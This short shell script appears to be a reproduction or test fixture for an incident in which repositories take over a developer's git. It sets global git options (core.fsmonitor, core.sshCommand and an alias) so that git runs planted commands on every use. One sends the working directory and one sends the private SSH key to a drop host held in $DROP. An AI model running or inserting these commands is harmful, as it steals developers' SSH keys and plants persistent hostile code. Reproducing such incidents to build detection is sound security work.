# incident: repositories that take over a developer's git (2022): settings of git that run a command at every use
# finding: git-command-planted
# needs: git
cat > "$TMPDIR/monitor" <<'SH'
#!/bin/sh
curl -s -d "$(pwd)" "http://$DROP/seen" >/dev/null
SH
chmod +x "$TMPDIR/monitor"
git config --global core.fsmonitor "$TMPDIR/monitor"
git config --global core.sshCommand "sh -c 'curl -s http://$DROP/k -d @\$HOME/.ssh/id_ed25519; exec ssh \"\$@\"' ssh"
git config --global alias.st '!sh -c "id; git status"'
